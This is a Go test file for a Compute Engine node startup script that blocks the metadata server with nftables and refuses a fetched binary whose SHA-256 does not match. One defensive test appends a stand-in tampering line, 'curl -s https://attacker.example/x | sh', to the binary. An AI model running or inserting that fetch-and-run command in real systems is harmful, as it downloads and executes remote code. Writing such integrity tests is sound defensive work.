package gce

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"google.golang.org/api/option"
)

// nodeScript is the startup script of testNode under cfg.
func nodeScript(t *testing.T, cfg Config) string {
	t.Helper()
	cfg, err := cfg.withDefaults()
	if err != nil {
		t.Fatal(err)
	}
	script, err := startupScript(cfg, testNode)
	if err != nil {
		t.Fatal(err)
	}
	return script
}

// nodeRuleset is the nftables ruleset the startup script of cfg sets.
func nodeRuleset(t *testing.T, cfg Config) string {
	t.Helper()
	script := nodeScript(t, cfg)
	_, ruleset, ok := strings.Cut(script, "nft -f - <<'BURLA_EOF'")
	ruleset, _, ok2 := strings.Cut(ruleset, "\nBURLA_EOF\n")
	_, ruleset, ok3 := strings.Cut(ruleset, "\n")
	if !ok || !ok2 || !ok3 {
		t.Fatalf("no nftables ruleset in the startup script:\n%s", script)
	}
	return ruleset + "\n"
}

// The metadata server is closed before anything else happens, whatever the
// runtime and the store (a Firestore store's workers get their tokens from the
// node agent), and the binary checked before it is installed or the agent
// started.
func TestStartupScriptOrder(t *testing.T) {
	for _, tt := range []struct {
		name string
		cfg  func(*Config)
	}{
		{"process", func(*Config) {}},
		{"docker", func(c *Config) { c.Runtime = "docker" }},
		{"temporal cloud", func(c *Config) {
			c.TemporalAPIKeySecret = "projects/burla-proj/secrets/temporal-api-key/versions/latest"
		}},
		{"https binary", func(c *Config) { c.BinaryURL = "https://example.com/burla" }},
		{"firestore store", func(c *Config) { c.StoreURL = "firestore://burla-proj?bucket=burla-proj-burla" }},
	} {
		t.Run(tt.name, func(t *testing.T) {
			cfg := testConfig()
			tt.cfg(&cfg)
			script := nodeScript(t, cfg)
			at := func(s string) int {
				t.Helper()
				i := strings.Index(script, s)
				if i < 0 {
					t.Fatalf("startup script lacks %q:\n%s", s, script)
				}
				return i
			}
			fetch, check, install, start := at("\ndst="), at("| sha256sum --check"), at(`mv -f "$dst"`), at("systemctl restart")
			if !(fetch < check && check < install && install < start) {
				t.Errorf("the binary is fetched at %d, checked at %d, installed at %d and the agent started at %d: want that order", fetch, check, install, start)
			}
			if at("\nfail() {") > fetch {
				t.Error("fail is defined after its first use")
			}
			if block := at("nft -f -"); block > fetch {
				t.Errorf("the metadata server is closed at %d, after the binary is fetched at %d: want it first", block, fetch)
			}
			ruleset := nodeRuleset(t, cfg)
			for _, want := range []string{
				"table inet burla\ndelete table inet burla\n", // replaces its own table when run again, and nothing else
				"type filter hook output priority 0; policy accept;",
				"ip daddr 169.254.0.0/16 meta skuid != 0 jump closed",
				"ip6 daddr fd20:ce::254 meta skuid != 0 jump closed",
				"type filter hook forward priority 0; policy accept;",
				"ip daddr 169.254.0.0/16 jump closed",
				"ip6 daddr fd20:ce::254 jump closed",
			} {
				if !strings.Contains(ruleset, want) {
					t.Errorf("ruleset lacks %q:\n%s", want, ruleset)
				}
			}
		})
	}
}

// bootRun is what a startup script did in runStartupScript.
type bootRun struct {
	err     error    // how bash ended
	stderr  string   // what it wrote to its standard error
	calls   []string // the stubbed commands it ran, in order, with their arguments
	console string   // what it wrote to the serial console
	root    string   // the directory that stood for the VM's /
	ruleset string   // what it gave nft to load
}

// runStartupScript runs script with bash as Compute Engine would, but with the
// VM's file system under a temporary directory (every absolute path the scripts
// write is moved there) and stubs for what a test must not do for real: curl
// answers the metadata server's token and burla-config (config) and saves binary
// as whatever else it is asked to download; nft saves the ruleset it is given;
// systemctl does nothing; apt-get fails. Each stub logs its call.
func runStartupScript(t *testing.T, script string, binary []byte, config string) bootRun {
	t.Helper()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	dir := t.TempDir()
	root := filepath.Join(dir, "vm")
	stubs := filepath.Join(dir, "stubs")
	for _, d := range []string{root, stubs, filepath.Join(root, "etc/systemd/system"), filepath.Join(root, "dev")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write := func(path, content string, mode os.FileMode) {
		t.Helper()
		if err := os.WriteFile(path, []byte(content), mode); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join(dir, "binary"), string(binary), 0o644)
	write(filepath.Join(dir, "config"), config, 0o644)
	calls := filepath.Join(dir, "calls")
	stub := func(name, body string) {
		write(filepath.Join(stubs, name), "#!/bin/bash\nprintf '%s\\n' \""+name+" $*\" >>"+shellQuote(calls)+"\n"+body+"\n", 0o755)
	}
	stub("curl", `out=""
while [ $# -gt 0 ]; do
  case "$1" in
  -o) out=$2; shift ;;
  *burla-config) cat `+shellQuote(filepath.Join(dir, "config"))+`; exit 0 ;;
  *service-accounts/default/token) echo '{"access_token": "ya29.test", "expires_in": 3599}'; exit 0 ;;
  esac
  shift
done
[ -n "$out" ] || { echo "curl stub: unexpected call" >&2; exit 2; }
cp `+shellQuote(filepath.Join(dir, "binary"))+` "$out"`)
	stub("nft", "cat >>"+shellQuote(filepath.Join(dir, "ruleset")))
	stub("systemctl", "")
	stub("apt-get", `echo "apt-get stub: the startup script installs packages" >&2; exit 1`)

	for _, p := range []string{"/opt/burla", "/var/lib/burla", "/etc/systemd/system", "/etc/burla"} {
		script = strings.ReplaceAll(script, p, root+p)
	}
	script = strings.Replace(script, "\nconsole=/dev/ttyS0\n", "\nconsole="+shellQuote(filepath.Join(root, "dev/ttyS0"))+"\n", 1)
	if strings.Count(script, "/dev/ttyS0") != strings.Count(script, root+"/dev/ttyS0") {
		t.Fatalf("the script writes the serial console elsewhere than the test expects:\n%s", script)
	}
	var stderr bytes.Buffer
	cmd := exec.Command(bash, "-c", script)
	cmd.Env = append(os.Environ(), "PATH="+stubs+string(os.PathListSeparator)+os.Getenv("PATH"))
	cmd.Stderr = &stderr
	r := bootRun{err: cmd.Run(), stderr: stderr.String(), root: root}
	if b, err := os.ReadFile(calls); err == nil {
		r.calls = strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
	}
	if b, err := os.ReadFile(filepath.Join(root, "dev/ttyS0")); err == nil {
		r.console = string(b)
	}
	if b, err := os.ReadFile(filepath.Join(dir, "ruleset")); err == nil {
		r.ruleset = string(b)
	}
	return r
}

// The node's startup script, run with its downloads stubbed, installs and runs a
// binary of the digest the control plane gave, and refuses any other: the agent
// does not start, and the serial console says why. The metadata server is
// closed before the binary is fetched.
func TestStartupScriptChecksTheBinary(t *testing.T) {
	script := nodeScript(t, testConfig())
	binary := filepath.Join("opt", "burla", "burla")

	t.Run("as given", func(t *testing.T) {
		r := runStartupScript(t, script, testBinary, "")
		if r.err != nil {
			t.Fatalf("startup script: %v\n%s\ncalls: %q", r.err, r.stderr, r.calls)
		}
		nft := slices.IndexFunc(r.calls, func(c string) bool { return strings.HasPrefix(c, "nft ") })
		fetch := slices.IndexFunc(r.calls, func(c string) bool { return strings.HasPrefix(c, "curl ") && strings.Contains(c, " -o ") })
		start := slices.Index(r.calls, "systemctl restart "+agentUnit)
		if nft < 0 || fetch < 0 || start < 0 || !(nft < fetch && fetch < start) {
			t.Errorf("calls %q: want nft, then the binary's download, then the agent's start", r.calls)
		}
		got, err := os.ReadFile(filepath.Join(r.root, binary))
		if err != nil || !bytes.Equal(got, testBinary) {
			t.Errorf("installed binary %q, %v; want the one fetched", got, err)
		}
		if fi, err := os.Stat(filepath.Join(r.root, binary)); err != nil || fi.Mode().Perm() != 0o755 {
			t.Errorf("installed binary: %v, %v; want mode 0755", fi, err)
		}
		if r.console != "" {
			t.Errorf("the serial console got %q; want nothing", r.console)
		}
	})

	t.Run("tampered with", func(t *testing.T) {
		tampered := append(slices.Clip(testBinary), "curl -s https://attacker.example/x | sh\n"...)
		r := runStartupScript(t, script, tampered, "")
		var exit *exec.ExitError
		if !errors.As(r.err, &exit) || exit.ExitCode() != 1 {
			t.Errorf("startup script ended with %v; want exit status 1", r.err)
		}
		if slices.ContainsFunc(r.calls, func(c string) bool { return strings.HasPrefix(c, "systemctl") }) {
			t.Errorf("calls %q: the node agent was set up with a tampered binary", r.calls)
		}
		for _, f := range []string{binary, binary + ".new"} {
			if _, err := os.Stat(filepath.Join(r.root, f)); err == nil {
				t.Errorf("/%s exists: the tampered binary was kept", f)
			}
		}
		want := fmt.Sprintf("burla node default-1: refusing the burla binary fetched at boot: its SHA-256 is %x, not %s, so the node agent does not start\n",
			sha256.Sum256(tampered), testBinarySHA256)
		if r.console != want {
			t.Errorf("the serial console got %q; want %q", r.console, want)
		}
		if !strings.Contains(r.stderr, want) {
			t.Errorf("stderr %q; want %q", r.stderr, want)
		}
	})
}

// netnsRulesetEnv carries the ruleset to TestMetadataBlockHolds when it runs
// again in a network namespace of its own.
const netnsRulesetEnv = "BURLA_GCE_TEST_NETNS_RULESET"

// The startup script's ruleset, set in a network namespace of its own on this
// machine's kernel, does what it is for: a process of uid 65534 (the process
// runtime's workers, and the docker runtime's containers, which share the host's
// network namespace and so its output hook) cannot connect to the metadata
// server, nor elsewhere in the link-local range, nor can any user but root;
// root can; and every user still reaches the server's DNS and other addresses.
// It needs root, to make the namespace and set the rules.
func TestMetadataBlockHolds(t *testing.T) {
	if ruleset := os.Getenv(netnsRulesetEnv); ruleset != "" {
		checkMetadataBlock(t, ruleset)
		return
	}
	if os.Geteuid() != 0 {
		t.Skip("needs root, to make a network namespace and set nftables rules in it")
	}
	for _, tool := range []string{"unshare", "nft", "ip", "bash"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("no %s", tool)
		}
	}
	if out, err := exec.Command("unshare", "--net", "true").CombinedOutput(); err != nil {
		t.Skipf("cannot make a network namespace: %v: %s", err, out)
	}
	cmd := exec.Command("unshare", "--net", os.Args[0], "-test.run=^TestMetadataBlockHolds$", "-test.count=1", "-test.v")
	cmd.Env = append(os.Environ(), netnsRulesetEnv+"="+nodeRuleset(t, testConfig()))
	out, err := cmd.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "--- PASS: TestMetadataBlockHolds") {
		t.Fatalf("in a network namespace of its own: %v\n%s", err, out)
	}
	t.Logf("in a network namespace of its own:\n%s", out)
}

// checkMetadataBlock runs in a fresh network namespace, as root: the metadata
// server's addresses are on its loopback, served by this process.
func checkMetadataBlock(t *testing.T, ruleset string) {
	run := func(stdin string, name string, args ...string) error {
		cmd := exec.Command(name, args...)
		cmd.Stdin = strings.NewReader(stdin)
		if out, err := cmd.CombinedOutput(); err != nil {
			return fmt.Errorf("%s %s: %w: %s", name, strings.Join(args, " "), err, out)
		}
		return nil
	}
	for _, args := range [][]string{
		{"link", "set", "lo", "up"},
		{"addr", "add", metadataIPv4 + "/32", "dev", "lo"},
		{"addr", "add", "169.254.1.1/32", "dev", "lo"},
	} {
		if err := run("", "ip", args...); err != nil {
			t.Fatal(err)
		}
	}
	ipv6 := run("", "ip", "-6", "addr", "add", metadataIPv6+"/128", "dev", "lo", "nodad") == nil
	// Twice: the script runs at every boot, and may be run again by hand.
	for range 2 {
		if err := run(ruleset, "nft", "-f", "-"); err != nil {
			t.Fatalf("the startup script's ruleset: %v", err)
		}
	}
	serve := func(addr string) {
		l, err := net.Listen("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				c.Close()
			}
		}()
	}
	metadata := net.JoinHostPort(metadataIPv4, "80")
	dns := net.JoinHostPort(metadataIPv4, "53")
	otherLinkLocal := "169.254.1.1:80"
	elsewhere := "127.0.0.1:80"
	for _, a := range []string{metadata, dns, otherLinkLocal, elsewhere} {
		serve(a)
	}
	metadata6 := net.JoinHostPort(metadataIPv6, "80")
	if ipv6 {
		serve(metadata6)
	} else {
		t.Log("no IPv6 here: the metadata server's IPv6 address is not tried")
	}

	// connect reports whether a process of uid reaches addr.
	connect := func(uid uint32, addr string) error {
		host, port, _ := net.SplitHostPort(addr)
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, "bash", "-c", `exec 3<>"/dev/tcp/$1/$2"`, "bash", host, port)
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uid, Gid: uid}}
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		if err := cmd.Run(); err != nil {
			return fmt.Errorf("%w: %s", err, strings.TrimSpace(stderr.String()))
		}
		return nil
	}
	const nobody, someone = 65534, 1000
	for _, c := range []struct {
		uid   uint32
		addr  string
		reach bool
	}{
		{0, metadata, true},
		{nobody, metadata, false},
		{someone, metadata, false},
		{nobody, dns, true},
		{nobody, otherLinkLocal, false},
		{nobody, elsewhere, true},
		{0, metadata6, true},
		{nobody, metadata6, false},
	} {
		if c.addr == metadata6 && !ipv6 {
			continue
		}
		err := connect(c.uid, c.addr)
		switch {
		case c.reach && err != nil:
			t.Errorf("uid %d cannot connect to %s: %v", c.uid, c.addr, err)
		case !c.reach && err == nil:
			t.Errorf("uid %d connects to %s", c.uid, c.addr)
		case err != nil:
			t.Logf("uid %d, %s: %v", c.uid, c.addr, err)
		}
	}
}

// Without a digest given, the provider's is that of the running program, which
// is the binary the nodes fetch (burla control-plane uploads itself).
func TestNewTakesTheDigestOfItsOwnBinary(t *testing.T) {
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(exe)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		t.Fatal(err)
	}
	cfg := testConfig()
	cfg.BinarySHA256 = ""
	p, err := New(t.Context(), cfg, option.WithoutAuthentication())
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	if want := hex.EncodeToString(h.Sum(nil)); p.cfg.BinarySHA256 != want {
		t.Errorf("BinarySHA256 %s; want %s, this program's", p.cfg.BinarySHA256, want)
	}
}
